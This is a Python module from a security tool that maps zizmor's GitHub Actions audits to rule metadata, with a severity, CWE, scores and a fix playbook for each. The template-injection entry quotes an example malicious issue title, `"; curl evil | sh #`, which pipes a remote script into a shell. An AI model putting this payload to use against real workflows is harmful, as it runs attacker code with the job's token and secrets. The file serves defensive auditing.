"""zizmor's audits (1.32) as stackaudit rules ``zizmor.<audit-id>``: an explicit table.

Each entry: title, default severity (zizmor's per-finding severity overrides it), CWE,
impact / likelihood (1..10), effort (person-days) and a short playbook. Audit ids that a
newer zizmor adds fall back to ``zizmor.unmapped`` with the id in the properties. See
https://docs.zizmor.sh/audits/ for zizmor's own documentation of each audit.
"""

from __future__ import annotations

from stackaudit.model import Category, RuleMeta, Severity

_H, _M, _L, _I = Severity.HIGH, Severity.MEDIUM, Severity.LOW, Severity.INFO


def _audit(
    ident: str, title: str, sev: Severity, cwe: tuple[int, ...], score: tuple[float, float, float], doc: str
) -> RuleMeta:
    impact, likelihood, effort = score
    return RuleMeta(
        id=f"zizmor.{ident}",
        title=title,
        category=Category.SECURITY,
        severity=sev,
        cwe=cwe,
        impact=impact,
        likelihood=likelihood,
        effort=effort,
        tags=("zizmor", "github-actions"),
        doc=f"zizmor audit {ident}: {title}.\n\n{doc}\n\nReference: https://docs.zizmor.sh/audits/#{ident}",
    )


AUDITS: tuple[RuleMeta, ...] = (
    _audit(
        "template-injection",
        "Code injection via template expansion",
        _H,
        (94,),
        (9, 6, 0.3),
        """
        Finds `${{ ... }}` expressions with attacker-controllable values (issue titles, PR
        branch names, commit messages) expanded inside `run:` scripts or script inputs.
        Why: the expression is pasted into the shell script before it runs, so a title like
        `"; curl evil | sh #` executes with the job's token and secrets.
        Example: `run: echo "${{ github.event.issue.title }}"`.
        Fix: pass the value through an environment variable (`env: TITLE: ${{ ... }}` and
        `run: echo "$TITLE"`), which the shell treats as data.""",
    ),
    _audit(
        "excessive-permissions",
        "Overly broad GITHUB_TOKEN permissions",
        _M,
        (250,),
        (6, 5, 0.2),
        """
        Finds workflows or jobs with `permissions: write-all`, broad write scopes, or the
        (often write-all) defaults because no `permissions:` block is set.
        Why: any compromised step (a dependency, an injected command) acts with every
        permission the token has: pushing code, publishing releases, editing issues.
        Example: `permissions: write-all` at workflow level.
        Fix: set `permissions: {}` at workflow level and grant each job only what it needs
        (e.g. `contents: read`).""",
    ),
    _audit(
        "unpinned-uses",
        "Action or reusable workflow not pinned to a commit",
        _M,
        (829,),
        (6, 4, 0.2),
        """
        Finds `uses:` references by tag or branch (`actions/checkout@v4`) instead of a
        full commit SHA. Why: tags are mutable; whoever controls the action's repository
        (or steals its credentials, as in tj-actions/changed-files) can change what runs.
        Fix: pin to the 40-character SHA with the version as a comment
        (`uses: actions/checkout@<sha> # v4.2.2`) and let Dependabot/Renovate update it.""",
    ),
    _audit(
        "artipacked",
        "Credential persistence through checkout",
        _M,
        (522,),
        (6, 3, 0.1),
        """
        Finds `actions/checkout` without `persist-credentials: false`. Why: the token is
        written to `.git/config` and leaks if the workspace is uploaded as an artifact or
        read by a later, less trusted step. Fix: `with: persist-credentials: false`, and
        pass a token explicitly only to the step that pushes.""",
    ),
    _audit(
        "dangerous-triggers",
        "Fundamentally insecure workflow trigger",
        _H,
        (269,),
        (8, 4, 1.0),
        """
        Finds `pull_request_target` and `workflow_run` triggers. Why: they run with the
        base repository's secrets and a write token while handling untrusted pull requests;
        checking out the PR head and building it hands those secrets to the attacker
        ("pwn request"). Fix: use `pull_request`; if privileged follow-up is needed, split
        it into a separate workflow that never runs PR code.""",
    ),
    _audit(
        "cache-poisoning",
        "Runtime artifacts potentially vulnerable to cache poisoning",
        _H,
        (349,),
        (7, 3, 0.3),
        """
        Finds release/publish workflows that restore caches. Why: caches are shared with
        less trusted workflows (e.g. PR builds); a poisoned cache entry ends up inside the
        released artifact. Fix: disable caching in release workflows (`cache: ''`,
        no `actions/cache`), build releases from a clean environment.""",
    ),
    _audit(
        "impostor-commit",
        "Commit with no history in the referenced repository",
        _H,
        (345,),
        (8, 2, 0.2),
        """
        Finds `uses: owner/repo@<sha>` where the SHA only exists in a fork (GitHub serves
        fork commits through the parent's name). Online audit. Fix: pin to a SHA from the
        real repository's history.""",
    ),
    _audit(
        "known-vulnerable-actions",
        "Action with a known vulnerability",
        _H,
        (1395,),
        (8, 5, 0.2),
        """
        Finds actions pinned to versions with published GitHub security advisories. Online
        audit. Fix: upgrade to the fixed version named in the advisory.""",
    ),
    _audit(
        "ref-confusion",
        "Git reference is both a tag and a branch",
        _M,
        (345,),
        (5, 2, 0.1),
        """
        Finds `uses:` refs that name both a tag and a branch, so which one runs is
        ambiguous. Online audit. Fix: pin to a commit SHA.""",
    ),
    _audit(
        "self-hosted-runner",
        "Job runs on a self-hosted runner",
        _M,
        (668,),
        (6, 3, 1.0),
        """
        Finds jobs on self-hosted runners. Why: on public repositories any fork PR can run
        code on your machine, and non-ephemeral runners keep state between jobs.
        Fix: use ephemeral, isolated runners; never self-hosted on public repositories.""",
    ),
    _audit(
        "hardcoded-container-credentials",
        "Hard-coded container registry credentials",
        _H,
        (798,),
        (8, 6, 0.2),
        """
        Finds literal passwords in `container:`/`services:` credentials. Fix: rotate the
        password and use `${{ secrets.NAME }}`.""",
    ),
    _audit(
        "insecure-commands",
        "Insecure workflow commands enabled",
        _H,
        (77,),
        (8, 4, 0.2),
        """
        Finds `ACTIONS_ALLOW_UNSECURE_COMMANDS`, which re-enables `set-env`/`add-path`
        through stdout: any output an attacker controls can set variables such as
        `LD_PRELOAD`. Fix: remove it; use `$GITHUB_ENV` / `$GITHUB_PATH`.""",
    ),
    _audit(
        "github-env",
        "Dangerous write to GITHUB_ENV or GITHUB_PATH",
        _H,
        (94,),
        (8, 4, 0.3),
        """
        Finds untrusted data written to `$GITHUB_ENV`/`$GITHUB_PATH` in privileged
        workflows: later steps then run with attacker-chosen variables or binaries.
        Fix: validate the data, or pass it as step outputs instead.""",
    ),
    _audit(
        "secrets-inherit",
        "Secrets unconditionally inherited by a called workflow",
        _M,
        (200,),
        (5, 3, 0.2),
        """
        Finds `secrets: inherit` on reusable-workflow calls, which hands every secret to the
        callee. Fix: pass only the named secrets it needs.""",
    ),
    _audit(
        "bot-conditions",
        "Spoofable bot actor check",
        _H,
        (290,),
        (7, 4, 0.2),
        """
        Finds conditions like `github.actor == 'dependabot[bot]'`: the actor is whoever
        last acted, which an attacker can arrange. Fix: check
        `github.event.pull_request.user.login` and the event type.""",
    ),
    _audit(
        "overprovisioned-secrets",
        "Excessively provisioned secrets",
        _M,
        (200,),
        (5, 3, 0.2),
        """
        Finds `${{ toJSON(secrets) }}` or dynamic `secrets[...]` access that exposes every
        secret to a step. Fix: reference only the secrets the step needs.""",
    ),
    _audit(
        "unredacted-secrets",
        "Leaked secret values",
        _M,
        (532,),
        (6, 3, 0.2),
        """
        Finds use of fields of structured (JSON) secrets, which GitHub cannot redact from
        logs. Fix: store each value as its own secret.""",
    ),
    _audit(
        "forbidden-uses",
        "Forbidden action used",
        _M,
        (829,),
        (5, 5, 0.2),
        """
        Finds `uses:` of actions denied by the zizmor configuration. Fix: replace the action.""",
    ),
    _audit(
        "obfuscation",
        "Obfuscated use of GitHub Actions features",
        _L,
        (),
        (3, 3, 0.1),
        """
        Finds needlessly obfuscated expressions or `uses:` paths that hide what runs.
        Fix: write the plain form zizmor suggests.""",
    ),
    _audit(
        "stale-action-refs",
        "Commit pin that is not a release",
        _L,
        (1104,),
        (3, 3, 0.1),
        """
        Finds SHA pins that do not point at a tagged release. Online audit. Fix: pin to a
        released commit.""",
    ),
    _audit(
        "unpinned-images",
        "Container image not pinned by digest",
        _M,
        (829,),
        (5, 4, 0.2),
        """
        Finds `container:`/`services:` images referenced by tag (or `latest`). Fix: pin with
        `image@sha256:<digest>`.""",
    ),
    _audit(
        "use-trusted-publishing",
        "Long-lived token instead of trusted publishing",
        _L,
        (522,),
        (4, 3, 0.5),
        """
        Finds package publishing with stored API tokens where the registry supports OIDC
        trusted publishing. Fix: configure trusted publishing and drop the token.""",
    ),
    _audit(
        "anonymous-definition",
        "Workflow or job without a name",
        _I,
        (),
        (1, 2, 0.1),
        """
        Finds unnamed workflows/jobs, which make logs and required checks hard to audit.
        Fix: add `name:`.""",
    ),
    _audit(
        "unsound-condition",
        "Unsound conditional expression",
        _M,
        (670,),
        (6, 4, 0.1),
        """
        Finds `if: |` multi-line conditions with `${{ }}` that always evaluate true, so
        guarded steps always run. Fix: write `if: ${{ ... }}` on one line or drop the
        block scalar.""",
    ),
    _audit(
        "unsound-contains",
        "Unsound contains() condition",
        _M,
        (697,),
        (5, 3, 0.1),
        """
        Finds `contains('refs/heads/main', github.ref)`-style substring checks that an
        attacker-chosen branch name can satisfy. Fix: compare with `==` or use an array.""",
    ),
    _audit(
        "unsound-ternary",
        "Unsound pseudo-ternary expression",
        _L,
        (670,),
        (3, 3, 0.1),
        """
        Finds `a && b || c` expressions that yield `c` when `b` is falsy. Fix: restructure
        the expression.""",
    ),
    _audit(
        "insecure-url-scheme",
        "Insecure URL scheme",
        _M,
        (319,),
        (5, 3, 0.1),
        """
        Finds `http://` (and similar) downloads in workflows, open to tampering in transit.
        Fix: use https and verify checksums.""",
    ),
    _audit(
        "adhoc-packages",
        "Ad-hoc package installation",
        _L,
        (494,),
        (3, 3, 0.3),
        """
        Finds packages installed ad hoc in steps (e.g. `pip install x` without pins).
        Fix: install from a pinned, hashed lock file.""",
    ),
    _audit(
        "unpinned-tools",
        "Action installs an unpinned tool",
        _M,
        (494,),
        (5, 3, 0.2),
        """
        Finds setup actions asked for `latest` or an unpinned tool version. Fix: pin the
        version (and checksum where supported).""",
    ),
    _audit(
        "archived-uses",
        "Action from an archived repository",
        _M,
        (1104,),
        (4, 3, 0.5),
        """
        Finds actions whose repositories are archived and receive no security fixes.
        Fix: replace them with maintained alternatives.""",
    ),
    _audit(
        "concurrency-limits",
        "Insufficient concurrency limits",
        _L,
        (400,),
        (3, 3, 0.1),
        """
        Finds workflows without a `concurrency:` group, so runs pile up and race.
        Fix: add `concurrency: {group: ..., cancel-in-progress: true}`.""",
    ),
    _audit(
        "dependabot-cooldown",
        "Insufficient Dependabot cooldown",
        _L,
        (1357,),
        (3, 3, 0.1),
        """
        Finds Dependabot updates with no cooldown, which pull brand-new (possibly
        compromised) releases at once. Fix: set `cooldown: default-days: 7` or more.""",
    ),
    _audit(
        "dependabot-execution",
        "Dependabot allows external code execution",
        _M,
        (829,),
        (5, 3, 0.1),
        """
        Finds `insecure-external-code-execution: allow` in Dependabot configuration.
        Fix: remove it.""",
    ),
    _audit(
        "github-app",
        "Dangerous use of GitHub App tokens",
        _M,
        (250,),
        (5, 3, 0.3),
        """
        Finds GitHub App token minting with broader repositories or permissions than
        needed. Fix: scope the token to the repositories and permissions used.""",
    ),
    _audit(
        "misfeature",
        "Use of a GitHub Actions misfeature",
        _L,
        (),
        (3, 3, 0.1),
        """
        Finds features that are insecure by design (e.g. `shell: cmd`, pip's
        `--extra-index-url` confusion). Fix: follow zizmor's suggestion.""",
    ),
    _audit(
        "ref-version-mismatch",
        "SHA pin whose version comment does not match",
        _L,
        (1357,),
        (3, 2, 0.1),
        """
        Finds `uses: x@<sha> # vN` where the SHA is not version N, misleading reviewers.
        Fix: correct the comment or the pin.""",
    ),
    _audit(
        "secrets-outside-env",
        "Secrets used without a dedicated environment",
        _L,
        (522,),
        (3, 3, 0.3),
        """
        Finds secrets referenced outside a deployment environment, so no protection rules
        gate their use. Fix: move them into an environment with required reviewers.""",
    ),
    _audit(
        "self-repository",
        "Self-repository reference instead of local syntax",
        _I,
        (),
        (1, 2, 0.1),
        """
        Finds `uses: owner/this-repo/...@ref` where `./...` would do. Fix: use `./path`.""",
    ),
    _audit(
        "superfluous-actions",
        "Action duplicating runner functionality",
        _L,
        (1104,),
        (2, 3, 0.1),
        """
        Finds third-party actions for things the runner already does (extra supply-chain
        surface). Fix: use the built-in tool.""",
    ),
    _audit(
        "typosquat-uses",
        "Action reference resembling a popular action",
        _H,
        (829,),
        (8, 2, 0.1),
        """
        Finds `uses:` of repositories whose names resemble well-known actions.
        Fix: check the owner and use the genuine action.""",
    ),
    _audit(
        "undocumented-permissions",
        "Permissions without explanatory comments",
        _I,
        (),
        (1, 2, 0.1),
        """
        Finds write permissions with no comment saying why (pedantic persona).
        Fix: add a comment next to each granted permission.""",
    ),
)

UNMAPPED = RuleMeta(
    id="zizmor.unmapped",
    title="A zizmor audit without a stackaudit mapping",
    category=Category.SECURITY,
    severity=Severity.MEDIUM,
    impact=5,
    likelihood=3,
    effort=0.3,
    tags=("zizmor", "github-actions"),
    doc="""
    A finding from a zizmor audit that is not in stackaudit's table (a newer zizmor).
    The audit id is in the ``zizmor_audit`` property and the severity is zizmor's own.
    Fix: read https://docs.zizmor.sh/audits/ for the audit, and add it to
    ``zizmor_audits.py`` so it gets a proper score and CWE.
    """,
)
